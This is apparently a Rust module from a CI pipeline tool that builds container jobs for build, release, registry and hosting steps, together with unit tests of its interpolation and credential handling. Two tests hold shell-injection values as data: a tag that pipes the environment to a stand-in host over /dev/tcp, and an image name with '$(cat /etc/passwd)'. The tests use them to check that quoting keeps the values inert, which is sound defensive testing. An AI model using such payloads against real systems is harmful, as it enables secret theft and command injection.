//! Turns collaborator calls into container jobs.
//!
//! Each call picks its [`CommandSpec`] from the configured [`CommandSet`],
//! interpolates it against a [`VariableContext`] and attaches the source
//! tree, cache and credentials the call needs.
//!
//! [`CommandSet`]: greetings_config::CommandSet

use greetings_config::{CommandSpec, PipelineConfig, VariableContext, VariableContextBuilder};
use greetings_core::backend::ContainerImage;
use greetings_core::deployer::RegistryAuth;
use greetings_core::release::ReleaseRequest;
use greetings_core::secret::SecretRequest;
use greetings_core::service::ProxyRoute;
use greetings_core::toolchain::{BuildJob, BuildVariant};
use greetings_core::{Arch, Credential, Error, Result, SourceTree};
use std::sync::Arc;

use crate::runner::ContainerJob;

// Environment variables carrying credentials into containers.
pub const VAULT_TOKEN_VAR: &str = "VAULT_TOKEN";
pub const APP_HOST_TOKEN_VAR: &str = "APP_HOST_TOKEN";
pub const STATIC_HOST_TOKEN_VAR: &str = "STATIC_HOST_TOKEN";
pub const RELEASE_TOKEN_VAR: &str = "RELEASE_TOKEN";
pub const REGISTRY_USER_VAR: &str = "REGISTRY_USER";
pub const REGISTRY_PASSWORD_VAR: &str = "REGISTRY_PASSWORD";

/// A service job and the port it listens on.
#[derive(Debug, Clone)]
pub struct ServiceJob {
    pub job: ContainerJob,
    pub port: u16,
}

/// Builds container jobs from the pipeline configuration.
#[derive(Debug, Clone)]
pub struct JobPlanner {
    config: Arc<PipelineConfig>,
}

impl JobPlanner {
    pub fn new(config: Arc<PipelineConfig>) -> Self {
        Self { config }
    }

    pub fn config(&self) -> &PipelineConfig {
        &self.config
    }

    /// Variables every command can use.
    fn context(&self) -> VariableContextBuilder {
        let project = &self.config.project;
        VariableContextBuilder::new()
            .with_process_env()
            .with_project(project)
            .with_custom("artifact", &self.config.matrix.artifact)
            .with_custom("image", &project.image)
            .with_custom("registry", &project.registry)
            .with_custom("repository", &project.repository)
    }

    fn plan(&self, action: &'static str, spec: &CommandSpec, ctx: &VariableContext) -> Result<ContainerJob> {
        let mut unresolved = ctx.unresolved(&spec.image);
        unresolved.extend(ctx.unresolved(&spec.run));
        if let Some(output) = &spec.output {
            unresolved.extend(ctx.unresolved(output));
        }
        for value in spec.env.values() {
            unresolved.extend(ctx.unresolved(value));
        }
        if !unresolved.is_empty() {
            return Err(Error::InvalidInput(format!(
                "{} command uses unknown variables: {}",
                action,
                unresolved.join(", ")
            )));
        }

        // Only the script goes through a shell; everything else is passed verbatim
        let mut job = ContainerJob::new(
            action,
            ctx.interpolate(&spec.image),
            ctx.interpolate_shell(&spec.run),
        )
        .with_docker_socket(spec.docker_socket)
        .with_output(spec.output.as_deref().map(|o| ctx.interpolate(o)));
        job.env = ctx.interpolate_map(&spec.env);
        Ok(job)
    }

    pub fn lint(&self, source: &SourceTree) -> Result<ContainerJob> {
        let ctx = self.context().build();
        Ok(self.plan("lint", &self.config.commands.lint, &ctx)?.with_source(source))
    }

    pub fn unit_test(&self, source: &SourceTree) -> Result<ContainerJob> {
        let ctx = self.context().build();
        Ok(self.plan("test", &self.config.commands.test, &ctx)?.with_source(source))
    }

    pub fn binary(&self, source: &SourceTree) -> Result<ContainerJob> {
        let ctx = self.context().build();
        Ok(self.plan("binary", &self.config.commands.binary, &ctx)?.with_source(source))
    }

    pub fn container(&self, source: &SourceTree, arch: Arch) -> Result<ContainerJob> {
        let ctx = self
            .context()
            .with_variant(&BuildVariant::new("", Some(arch)))
            .build();
        Ok(self
            .plan("container", &self.config.commands.container, &ctx)?
            .with_source(source))
    }

    pub fn backend_serve(&self, source: &SourceTree) -> Result<ServiceJob> {
        let spec = &self.config.commands.backend_serve;
        let ctx = self.context().build();
        Ok(ServiceJob {
            job: self.plan("backend", spec, &ctx)?.with_source(source),
            port: spec.port.unwrap_or(self.config.serve.backend.internal),
        })
    }

    pub fn frontend_build(&self, source: &SourceTree, env: &str) -> Result<ContainerJob> {
        let ctx = self.context().with_frontend_env(env).build();
        Ok(self
            .plan("frontend", &self.config.commands.frontend_build, &ctx)?
            .with_source(source))
    }

    pub fn frontend_serve(&self, source: &SourceTree) -> Result<ServiceJob> {
        let spec = &self.config.commands.frontend_serve;
        let ctx = self.context().build();
        Ok(ServiceJob {
            job: self.plan("frontend", spec, &ctx)?.with_source(source),
            port: spec.port.unwrap_or(self.config.serve.frontend.internal),
        })
    }

    /// One proxy instance forwarding `route.external_port` to the service.
    pub fn proxy(&self, route: &ProxyRoute) -> Result<ContainerJob> {
        let ctx = self
            .context()
            .with_route(
                &route.name,
                &route.service.hostname,
                route.internal_port,
                route.external_port,
            )
            .build();
        self.plan("proxy", &self.config.commands.proxy, &ctx)
    }

    pub fn toolchain(&self, build: &BuildJob) -> Result<ContainerJob> {
        let ctx = self
            .context()
            .with_variant(&build.variant)
            .with_cache(&build.cache)
            .with_custom("artifact", &build.artifact)
            .build();
        Ok(self
            .plan("toolchain", &self.config.commands.toolchain, &ctx)?
            .with_source(&build.source)
            .with_cache(&build.cache))
    }

    pub fn registry(
        &self,
        auth: &RegistryAuth,
        image_ref: &str,
        variants: &[ContainerImage],
    ) -> Result<ContainerJob> {
        let refs: Vec<_> = variants.iter().map(|v| v.reference.as_str()).collect();
        let ctx = self
            .context()
            .with_custom("image", image_ref)
            .with_custom("registry", &auth.address)
            .with_list("variants", refs)
            .build();
        Ok(self
            .plan("registry", &self.config.commands.registry, &ctx)?
            .with_env(REGISTRY_USER_VAR, &auth.username)
            .with_secret(REGISTRY_PASSWORD_VAR, &auth.password))
    }

    pub fn app_host(&self, app: &str, image_ref: &str, token: &Credential) -> Result<ContainerJob> {
        let ctx = self
            .context()
            .with_custom("app", app)
            .with_custom("image", image_ref)
            .build();
        Ok(self
            .plan("app-host", &self.config.commands.app_host, &ctx)?
            .with_secret(APP_HOST_TOKEN_VAR, token))
    }

    pub fn static_host(&self, site_dir: &SourceTree, token: &Credential, site: &str) -> Result<ContainerJob> {
        let ctx = self.context().with_custom("site", site).build();
        Ok(self
            .plan("static-host", &self.config.commands.static_host, &ctx)?
            .with_source(site_dir)
            .with_secret(STATIC_HOST_TOKEN_VAR, token))
    }

    pub fn release(&self, request: &ReleaseRequest) -> Result<ContainerJob> {
        let assets: Vec<_> = request.assets.paths().collect();
        let ctx = self
            .context()
            .with_custom("repository", &request.repository)
            .with_custom("tag", &request.tag)
            .with_custom("title", &request.title)
            .with_list("assets", assets)
            .build();
        Ok(self
            .plan("release", &self.config.commands.release, &ctx)?
            .with_source(&request.assets)
            .with_secret(RELEASE_TOKEN_VAR, &request.token))
    }

    pub fn secret(&self, request: &SecretRequest, vault_token: &Credential) -> Result<ContainerJob> {
        let ctx = self.context().with_secret(request).build();
        Ok(self
            .plan("vault", &self.config.commands.vault, &ctx)?
            .with_secret(VAULT_TOKEN_VAR, vault_token))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use greetings_config::parse_config;
    use greetings_core::Origin;
    use greetings_core::toolchain::CacheVolume;

    fn planner() -> JobPlanner {
        JobPlanner::new(Arc::new(PipelineConfig::default()))
    }

    fn source() -> SourceTree {
        SourceTree::from_entries(Origin::Scratch, [("main.go", "package main")])
    }

    #[test]
    fn test_toolchain_job_uses_variant_and_cache() {
        let build = BuildJob {
            source: source(),
            variant: BuildVariant::new("1.19", Some(Arch::Arm64)),
            cache: CacheVolume::new("gomods", "/cache"),
            artifact: "greetings-api".to_string(),
        };
        let job = planner().toolchain(&build).unwrap();

        assert_eq!(job.image, "golang:1.19");
        assert_eq!(job.script, "go build -o /out/greetings-api");
        assert_eq!(job.output.as_deref(), Some("greetings-api"));
        assert_eq!(job.env.get("GOMODCACHE").map(String::as_str), Some("/cache"));
        assert_eq!(job.env.get("GOARCH").map(String::as_str), Some("arm64"));
        assert_eq!(job.cache.as_ref().map(|c| c.key.as_str()), Some("gomods"));
        assert!(job.source.is_some());
    }

    #[test]
    fn test_container_job_tags_per_arch() {
        let job = planner().container(&source(), Arch::Amd64).unwrap();

        assert!(job.docker_socket);
        assert!(job.script.contains("--platform linux/amd64"));
        assert!(job.script.contains("kylepenfound/greetings-api:latest-amd64"));
    }

    #[test]
    fn test_credentials_stay_out_of_scripts() {
        let planner = planner();
        let token = Credential::from_plaintext("FLY_TOKEN", "fly-s3cret");
        let job = planner
            .app_host("dagger-demo", "kylepenfound/greetings-api:latest", &token)
            .unwrap();

        assert!(!job.script.contains("fly-s3cret"));
        assert!(job.script.contains("--app dagger-demo"));
        assert_eq!(job.secrets.len(), 1);
        assert_eq!(job.secrets[0].0, APP_HOST_TOKEN_VAR);
    }

    #[test]
    fn test_registry_job_lists_variants() {
        let auth = RegistryAuth {
            address: "index.docker.io".to_string(),
            username: "kylepenfound".to_string(),
            password: Credential::from_plaintext("DOCKERHUB_PASSWORD", "pw"),
        };
        let variants = [
            ContainerImage {
                arch: Arch::Amd64,
                reference: "img-amd64".to_string(),
            },
            ContainerImage {
                arch: Arch::Arm64,
                reference: "img-arm64".to_string(),
            },
        ];
        let job = planner()
            .registry(&auth, "kylepenfound/greetings-api:latest", &variants)
            .unwrap();

        assert!(job.script.contains("docker manifest create kylepenfound/greetings-api:latest img-amd64 img-arm64"));
        assert!(job.script.contains("docker login index.docker.io"));
        assert_eq!(job.env.get(REGISTRY_USER_VAR).map(String::as_str), Some("kylepenfound"));
        assert_eq!(job.secrets[0].0, REGISTRY_PASSWORD_VAR);
    }

    #[test]
    fn test_release_job_attaches_every_asset() {
        let request = ReleaseRequest {
            repository: "github.com/kpenfound/greetings-api".to_string(),
            tag: "v1.0".to_string(),
            title: "Release v1.0".to_string(),
            token: Credential::from_plaintext("GH_RELEASE_TOKEN", "gh"),
            assets: SourceTree::from_entries(
                Origin::Scratch,
                [("greetings-api", "ELF"), ("website.tar.gz", "gz")],
            ),
        };
        let job = planner().release(&request).unwrap();

        assert!(job.script.contains("gh release create v1.0"));
        assert!(job.script.contains("--title 'Release v1.0' greetings-api website.tar.gz"));
    }

    #[test]
    fn test_hostile_tag_stays_one_shell_word() {
        let tag = "v1.0; env > /dev/tcp/evil/1 #";
        let request = ReleaseRequest {
            repository: "github.com/kpenfound/greetings-api".to_string(),
            tag: tag.to_string(),
            title: format!("Release {}", tag),
            token: Credential::from_plaintext("GH_RELEASE_TOKEN", "gh"),
            assets: SourceTree::from_entries(Origin::Scratch, [("website.tar.gz", "gz")]),
        };
        let job = planner().release(&request).unwrap();

        assert!(job.script.contains("gh release create 'v1.0; env > /dev/tcp/evil/1 #' --repo"));
        assert!(job.script.contains("--title 'Release v1.0; env > /dev/tcp/evil/1 #' website.tar.gz"));
        assert!(!job.script.contains("create v1.0;"));
    }

    #[test]
    fn test_substituted_command_output_is_inert() {
        let planner = planner();
        let token = Credential::from_plaintext("FLY_TOKEN", "t");
        let job = planner.app_host("dagger-demo", "img$(cat /etc/passwd)", &token).unwrap();

        assert!(job.script.contains("--image 'img$(cat /etc/passwd)'"));
    }

    #[test]
    fn test_unknown_variable_in_env_rejected() {
        let config = parse_config(
            r#"
            commands {
                toolchain image="golang:${variant.toolchain}" {
                    run "go build -o /out/${artifact}"
                    env {
                        GOMODCACHE "${cahce.path}"
                    }
                }
            }
            "#,
        )
        .unwrap();
        let build = BuildJob {
            source: source(),
            variant: BuildVariant::new("1.19", None),
            cache: CacheVolume::new("gomods", "/cache"),
            artifact: "greetings-api".to_string(),
        };

        match JobPlanner::new(Arc::new(config)).toolchain(&build) {
            Err(Error::InvalidInput(message)) => assert!(message.contains("cahce.path")),
            other => panic!("Expected invalid input, got {:?}", other),
        }
    }

    #[test]
    fn test_secret_job_scoped_by_request() {
        let request = SecretRequest::new("FLY_TOKEN", "dev", "/");
        let vault = Credential::from_plaintext("INFISICAL_TOKEN", "t");
        let job = planner().secret(&request, &vault).unwrap();

        assert!(job.script.contains("secrets get FLY_TOKEN --env dev --path /"));
        assert_eq!(job.secrets[0].0, VAULT_TOKEN_VAR);
    }

    #[test]
    fn test_proxy_job_per_route() {
        let handle = greetings_core::service::ServiceHandle {
            name: "frontend".to_string(),
            hostname: "frontend".to_string(),
            runtime_id: "abc".to_string(),
            ports: vec![],
        };
        let route = ProxyRoute::new(handle, "frontend", 8081, 80);
        let job = planner().proxy(&route).unwrap();

        assert_eq!(
            job.script,
            "caddy reverse-proxy --from :8081 --to frontend:80"
        );
    }

    #[test]
    fn test_unknown_variable_rejected() {
        let config = parse_config(
            r#"
            commands {
                lint image="golang:1.21" {
                    run "lint ${nonsense.value}"
                }
            }
            "#,
        )
        .unwrap();
        let planner = JobPlanner::new(Arc::new(config));

        match planner.lint(&source()) {
            Err(Error::InvalidInput(message)) => assert!(message.contains("nonsense.value")),
            other => panic!("Expected invalid input, got {:?}", other),
        }
    }

    #[test]
    fn test_service_ports_default_from_config() {
        let planner = planner();
        assert_eq!(planner.backend_serve(&source()).unwrap().port, 8080);
        assert_eq!(planner.frontend_serve(&source()).unwrap().port, 80);
    }
}
